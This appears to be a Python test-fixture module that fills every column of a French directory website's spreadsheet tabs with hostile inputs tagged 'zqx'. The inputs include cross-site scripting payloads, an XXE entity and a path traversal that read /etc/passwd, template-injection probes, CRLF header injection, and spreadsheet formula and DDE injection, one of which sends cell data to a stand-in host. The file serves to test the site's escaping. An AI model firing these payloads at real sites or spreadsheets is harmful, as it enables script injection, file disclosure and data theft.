"""What is put into every column of every tab. Each text carries `MARK`, so that what escapes can be told from what is ours."""

from collections.abc import Iterator, Mapping
from typing import Any

import schema
from fields import Cell
from schema import CONSENT
from sheets import demo

MARK = "zqx"
"""In no word of the site: as the name of an element, an attribute or an id it means that a text became more than text."""
FOREIGN = "mechant.example"
"""The host that injected pictures, scripts and frames would ask."""

MARKUP = {
    "script": f'<script zqx src="https://{FOREIGN}/zqx.js">alert("zqx")</script>',
    "end of a script": "zqx</script><script zqx>alert('zqx')</script>",
    "end of a style": "zqx</style><style zqx>*{display:none}</style>",
    "end of a title": "zqx</title></textarea></noscript><img zqx src=x onerror=alert('zqx')>",
    "event": f"<img zqx src=https://{FOREIGN}/zqx.png onerror=\"alert('zqx')\" onload=alert('zqx')>",
    "svg": "<svg zqx onload=alert('zqx')><animate zqx onbegin=alert('zqx') attributeName=x></svg>",
    "mathml": '<math zqx><mtext><table><mglyph><style zqx><img zqx src onerror=alert("zqx")>',
    "frame": f'<iframe zqx src="https://{FOREIGN}/zqx" srcdoc="<script>alert(1)</script>"></iframe>',
    "form": f'<form zqx action="https://{FOREIGN}/"><input zqx name=zqx autofocus onfocus=alert("zqx")><button>zqx',
    "base and meta": f'<base zqx href="https://{FOREIGN}/"><meta zqx http-equiv="refresh" content="0;url=https://{FOREIGN}/">',
    "details": "<details zqx open ontoggle=alert('zqx')><summary>zqx</summary></details>",
    "comment": "zqx<!--><script zqx>alert('zqx')</script--><!-- <b zqx>",
    "cdata": "zqx]]><zqx/><![CDATA[zqx]]>",
    "doctype": '<!DOCTYPE zqx [<!ENTITY zqx SYSTEM "file:///etc/passwd">]>&zqx;',
    "half a tag": "<a zqx href='zqx",
    "entities": "&lt;script zqx&gt;alert(1)&lt;/script&gt; &#60;b zqx&#62; &amp;lt;zqx&amp;gt; &zqx;",
    "double quote": "zqx\" onmouseover=\"alert('zqx')\" zqx=\"",
    "single quote": "zqx' onmouseover='alert(1)' zqx='",
    "backtick": "zqx` onmouseover=`alert(1)` zqx=`",
    "style": 'zqx" style="background:url(javascript:alert(1))" zqx="',
    "css": "zqx);background:url(https://mechant.example/zqx.png);}</style>",
    "json": 'zqx","zqx":"zqx\\"}],"@context":"zqx","a":{"',
    "backslashes": "zqx\\u003cscript zqx\\u003e\\x3cscript\\x3e \\",
}  # fmt: skip
ADDRESSES = {
    "javascript": "javascript:alert('zqx')",
    "javascript in disguise": "\x01 jAvA\tscr\nipt:alert('zqx')//https://zqx.example",
    "javascript with a host": "javascript://zqx.example/%0aalert('zqx')",
    "javascript by entities": "&#106;avascript&colon;alert('zqx')",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgnenF4Jyk8L3NjcmlwdD4=#zqx",
    "data picture": "data:image/svg+xml,<svg zqx xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript": "vbscript:msgbox(zqx)",
    "file": "file:///etc/passwd#zqx",
    "blob": "blob:https://zqx.example/0",
    "no scheme": "//mechant.example/zqx",
    "backslashed": "\\\\mechant.example\\zqx",
    "quote in an address": 'https://zqx.example/"onmouseover="alert(\'zqx\')"zqx="',
    "tag in an address": "https://zqx.example/<script zqx>alert(1)</script>",
    "name and password": "https://zqx:zqx@mechant.example/",
    "phone": "tel:+33611223344;zqx\"onclick=\"alert('zqx')",
    "within": "../../../../etc/passwd%00zqx",
}
MARKDOWN = {
    "link": "[zqx](javascript:alert('zqx')) [zqx](https://mechant.example/zqx 'zqx\" onclick=\"alert(1)')",
    "reference": "[zqx]: javascript:alert('zqx')\n\n[zqx] ![zqx][zqx] <javascript:alert('zqx')>",
    "picture": "![zqx](https://mechant.example/zqx.png) ![zqx\" onerror=\"alert('zqx')](x)",
    "shape": "# zqx\n\n**zqx** _zqx_ ~~zqx~~ `zqx`\n\n- zqx\n\n> zqx\n\n| zqx | zqx |\n|---|---|\n| zqx | zqx |\n\n***\n",
    "html in it": '**<b zqx onclick=alert(\'zqx\')>zqx</b>** <div class="st-zqx" id=zqx style="position:fixed">zqx</div>',
    "fences": "```html\n<script zqx>alert('zqx')</script>\n```\n~~~\n~~~",
    "bare address": "www.mechant.example zqx@mechant.example https://mechant.example/zqx",
    "headings": "###### zqx\n# zqx\n<h1 zqx>zqx</h1><main zqx><header zqx>",
}
DIRECTIVES = {
    "colour": ":red[zqx] :red-background[zqx] :rainbow[zqx] :violet-badge[zqx] :small[zqx]",
    "icon": ":material/home: zqx :streamlit: :material/zqx:",
    "emoji": ":smile: :+1: zqx :fire:",
    "mathematics": "$zqx$ $$\\href{javascript:alert('zqx')}{zqx}$$ \\(zqx\\) 12$ et 15$",
    "arrows": "zqx -> zqx <- zqx <-> zqx -- zqx >= zqx <= zqx ~= zqx",
    "template": "{{ 7*7 }}zqx{% for x in config %}{{ x.__class__ }}{% endfor %}{# zqx #}",
    "format": "{0.__class__}{zqx}%(zqx)s %s %n ${7*7} #{7*7} <%= 7*7 %> `${7*7}`",
    "placeholders": "__ASSETS__ zqx {nom} {lien} {contact} {manque} {fiche}",
}  # fmt: skip
SIGNS = {
    "bidirectional": "\u202ezqx gnirts\u202c \u2066zqx\u2069 \u200fzqx \u061c",
    "invisible": "z\u200bq\u200bx zqx\u200d\u200c\ufeff\u00ad\u2060\u180e\u3164",
    "controls": "zqx\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9f",
    "lines": "zqx\r\nBEGIN:VCARD\r\nEND:VCARD\rX-Zqx: 1\n\nSet-Cookie: zqx=1\u2028zqx\u2029zqx",
    "headers": "zqx\r\nLocation: https://mechant.example/\r\nContent-Type: text/html\r\n\r\n<script zqx>",
    "no character": "zqx\ufffe\uffff\ufdd0\U0001fffe\ufffd",
    "half surrogates": "zqx\ud800 zqx\udfff \udc80zqx",
    "tags": "zqx\U000e0001\U000e007f\U000e0041",
    "stacked accents": "zqx" + "\u0301\u0336\u0489" * 120,
    "wide": "﷽ zqx 𒐫 ꧅ ＜script zqx＞ ＝1+1 ﬀ ﬁ",
    "emoji": "zqx 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇫🇷 1️⃣",
    "case that grows": "zqx İıſẞß ŉ ǰ ΐ",
    "one word": "zqx" + "x" * 4000,
    "deep": "zqx" + "[" * 900 + "(" * 900 + "<b>" * 300 + ">" * 300 + "*" * 900,
    "long": ("zqx <b zqx>\"' " * 3000)[:32_000],
}  # fmt: skip
FORMULAS = {
    "equals": "=HYPERLINK(\"https://mechant.example/?\"&A1;\"zqx\")",
    "plus": "+cmd|' /C calc'!A0 zqx",
    "minus": "-2+3+cmd|' /C zqx'!A0",
    "at": "@SUM(1+1)*zqx",
    "tab": "\t=1+1 zqx",
    "return": "\r=1+1 zqx",
    "after a quote": "\"=1+1 zqx\"",
    "after a separator": "zqx;=1+1,=1+1\t=1+1",
    "error": "#REF! zqx",
    "dde": "=DDE(\"cmd\";\"/C zqx\";\"\")",
}  # fmt: skip
TEXTS: Mapping[str, str] = {
    f"{kind}: {name}": text
    for kind, texts in (("markup", MARKUP), ("address", ADDRESSES), ("markdown", MARKDOWN), ("directive", DIRECTIVES), ("sign", SIGNS), ("formula", FORMULAS))
    for name, text in texts.items()
}  # fmt: skip
CELLS: Mapping[str, Cell] = {
    "number": 1e308,
    "date": -1.5,
    "tick": True,
    "zero": 0,
    "half": 45000.5,
    "large": 2**60,
    "blank": " ",
}
"""What no text is."""

Row = dict[str, Any]
_SOUND: Row = {
    "Nom": "Zqx sain", "Catégorie": "Boulangerie", "Code postal": "49100", "Commune": "Angers", "Consentement": CONSENT, "approved": True,
}  # fmt: skip
_WHERE = ("Code postal", "Commune")
_DECISIVE = ("Horodateur", "Consentement", "approved", "latitude", "longitude")


def responses() -> list[Row]:
    """Lines by header. Most are online: each hostile cell in every column that may hold it, beside the sound ones that a fiche needs."""
    lines: list[Row] = []
    headers = [column.header for column in schema.FICHE]
    for hostile in (*TEXTS.values(), *CELLS.values()):
        free = {header: hostile for header in headers if header not in (*_WHERE, *_DECISIVE)}
        lines.append({**_SOUND, **free})
        lines.append(
            {
                **_SOUND,
                "Nom": f"Zqx lieu {len(lines)}",
                **dict.fromkeys(_WHERE, hostile),
                "Adresse": hostile,
                "latitude": 47.47,
                "longitude": -0.55,
            }
        )
        lines.append(
            {
                **_SOUND,
                "Nom": f"Zqx points {len(lines)}",
                "Autres points de vente": f"Marché {hostile}, samedi 9h-12h, Angers\n{hostile}",
            }
        )
        lines += ({**_SOUND, "Nom": f"Zqx seul {len(lines)}", header: hostile} for header in _DECISIVE)
    for line, row in enumerate(lines):
        row.setdefault("Horodateur", 45_000.5 + line / 1440)
    return lines  # fmt: skip


def mag() -> list[Row]:
    """Articles and standing pages, one of each text."""
    return [
        {"titre": text, "chapô": text, "texte": text, "image": text, "auteur": text, "date": "" if number % 3 else text,
         "rubrique": text, "type": "page" if number % 9 == 0 else "article", "publié": True}
        for number, text in enumerate(TEXTS.values())
    ] + [{"titre": "Zqx type", "texte": "zqx", "type": text, "publié": text} for text in TEXTS.values()]  # fmt: skip


def reglages() -> Iterator[dict[str, Cell]]:
    """The team's keys, all hostile at once, one after another text."""
    keys = [each.metadata["header"] for each in schema.REGLAGES]
    for text in (*TEXTS.values(), *CELLS.values()):
        yield dict.fromkeys(keys, text)


def signalements() -> list[Row]:
    """Reports as strangers and colleagues may have left them."""
    return [dict.fromkeys(schema.SIGNALEMENTS_HEADERS[:3], text) for text in TEXTS.values()]


def suivi() -> list[Row]:
    return [dict.fromkeys(schema.SUIVI_HEADERS, text) for text in TEXTS.values()]


def gentle() -> dict[str, list[list[Cell]]]:
    """The demo, all of it online: the same faces with nothing hostile in them."""
    return demo.tables(ticked=True)
